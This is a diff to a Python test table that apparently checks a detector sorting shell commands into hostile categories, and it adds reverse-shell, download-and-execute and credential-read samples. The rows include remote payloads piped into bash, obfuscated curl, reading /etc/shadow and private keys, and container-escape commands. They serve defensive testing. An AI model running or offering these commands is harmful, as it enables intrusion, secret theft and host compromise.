@@ -69,7 +69,10 @@ def test_the_command_is_that_of_the_uri(query: str, command: str | None) -> None
         (["/usr/bin/wget", "http://3405803785/x"], "download"),
         (shell("c''url${IFS}http://files.example.net/x"), "download"),
         (["python3", "-c", "urllib.request.urlopen('http://files.example.net')"], "download"),
+        (["ruby", "-rsocket", "-e", "x"], "reverse shell"),
+        (["node", "-e", "require('net')"], "reverse shell"),
         (shell("echo aWQ= | base64 -d | sh"), "code from elsewhere"),
+        (shell("wget http://10.1.2.3/x -O /tmp/x && chmod +x /tmp/x"), "code from elsewhere"),
         (shell("wget -O- http://10.1.2.3/x | bash"), "code from elsewhere"),
         (["curl", "http://169.254.169.254/latest/meta-data/"], "instance metadata"),
         (
@@ -83,6 +86,7 @@ def test_the_command_is_that_of_the_uri(query: str, command: str | None) -> None
         (["head", "-1", "/etc/shadow"], "credentials"),
         (["cat", "/root/.ssh/id_ed25519"], "credentials"),
         (["cat", "/proc/1/environ"], "credentials"),
+        (["cat", "/etc/nginx/tls.key"], "credentials"),
         (shell("env | grep -i password"), "credentials"),
         (["nsenter", "-t", "1", "-m", "sh"], "node"),
         (["chroot", "/host", "sh"], "node"),
